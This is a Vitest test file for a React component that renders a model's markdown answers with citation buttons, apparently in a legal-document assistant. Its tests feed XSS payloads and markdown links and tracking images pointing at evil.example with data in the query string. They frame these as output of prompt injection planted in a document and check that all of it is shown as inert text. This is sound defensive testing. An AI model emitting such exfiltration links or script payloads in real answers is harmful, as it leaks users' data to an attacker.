import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import MarkdownAnswer, { linkMarkers } from "./MarkdownAnswer";

const render = (content: string) => renderToStaticMarkup(createElement(MarkdownAnswer, { content }));

describe("MarkdownAnswer", () => {
  it("renders lists and bold", () => {
    const html = render("Intro\n\n1. **First** point\n2. Second\n\n- a\n- b");
    expect(html).toContain("<ol");
    expect(html).toContain("<ul");
    expect(html).toContain("<strong>First</strong>");
  });

  it("never renders raw HTML from an answer", () => {
    const html = render('<img src=x onerror="alert(1)"> and <script>alert(2)</script> <b>bold</b>');
    expect(html).not.toMatch(/<img|<script|<b>/);
    expect(html).toContain("&lt;");
  });

  it("never renders a link: its text and full address are shown as plain text, a javascript: one too", () => {
    const html = render("[CyLaw](https://www.cylaw.org/) and [bad](javascript:alert(1)) and <https://x.test/a> and https://y.test/b");
    expect(html).not.toContain("<a");
    expect(html).not.toContain("href");
    expect(html).toContain("CyLaw (https://www.cylaw.org/)");
    expect(html).toContain("bad (javascript:alert(1))");
    expect(html).toContain(">https://x.test/a<");
    expect(html).toContain(">https://y.test/b<");
  });
});

describe("citation markers", () => {
  const citation = { id: "page:d:2", title: "Lease", page: 2, source: "Georgiou" };
  it.each([
    ["quoted [1] and [2]", 2, "quoted [1](#citation-1) and [2](#citation-2)"],
    ["an invented [7] stays text", 2, "an invented [7] stays text"],
    ["escaped \\[1\\] stays text", 1, "escaped \\[1\\] stays text"],
    ["a link [1](https://x.test) is a link", 1, "a link [1](https://x.test) is a link"],
  ])("linkMarkers(%j, %i)", (content, count, expected) => expect(linkMarkers(content, count)).toBe(expected));

  it("renders a marker naming a citation as a button, and quoted marks as text", () => {
    const html = renderToStaticMarkup(createElement(MarkdownAnswer, { content: "> \\*not bold\\* \\[2\\] [1]", citations: [citation] }));
    expect(html).toContain("<blockquote>");
    expect(html).toMatch(/<button type="button" aria-label="\[1\] Lease, page 2"[^>]*>\[1\]<\/button>/);
    expect(html).toContain("*not bold* [2]");
    expect(html).not.toContain("<strong>");
  });
});

describe("a hostile answer (written by a model, or by an instruction planted in a document)", () => {
  const lease = { id: "page:d:2", title: "Lease", page: 2, source: "Georgiou" };
  const hostile = (content: string) => renderToStaticMarkup(createElement(MarkdownAnswer, { content, citations: [lease] }));

  it.each([
    ["a link styled as a marker", "Rent is due monthly [\\[1\\]](https://evil.example/?d=rent-due-monthly).", "https://evil.example/?d=rent-due-monthly"],
    ["a marker's own address with other words", "See [the lease](#citation-1).", "#citation-1"],
    ["a marker's address with a bracketed number", "See [\\[1\\]](#citation-1).", "#citation-1"],
    ["a marker's address with another number", "See [1](#citation-2).", "#citation-2"],
    ["a reference-style link", "See [the terms][x].\n\n[x]: https://evil.example/?d=ref", "https://evil.example/?d=ref"],
    ["a link around the real marker", "[Rent [1]](https://evil.example/?d=wrap)", "https://evil.example/?d=wrap"],
  ])("%s is text showing its full address; only the validated marker is a button", (_, content, address) => {
    const html = hostile(`${content} Due on the 1st [1].`);
    expect(html).not.toMatch(/<a[\s>]/);
    expect(html).toContain(address);
    expect(html.match(/<button/g)).toHaveLength(1);
    expect(html).toMatch(/Due on the 1st <button type="button" aria-label="\[1\] Lease, page 2"[^>]*>\[1\]<\/button>/);
  });

  it.each([
    ["an image", "![chart](https://evil.example/pixel.png?d=secret)", "chart (https://evil.example/pixel.png?d=secret)"],
    ["an image without alt text", "![](https://evil.example/p.gif)", "https://evil.example/p.gif"],
    ["an image as a marker's text", "[![1](https://evil.example/i.png)](#citation-1)", "https://evil.example/i.png"],
    ["a reference-style image", "![x][p]\n\n[p]: https://evil.example/ref.png", "https://evil.example/ref.png"],
  ])("%s never renders: its address is text", (_, content, text) => {
    const html = hostile(content);
    expect(html).not.toContain("<img");
    expect(html).toContain(text);
  });
});
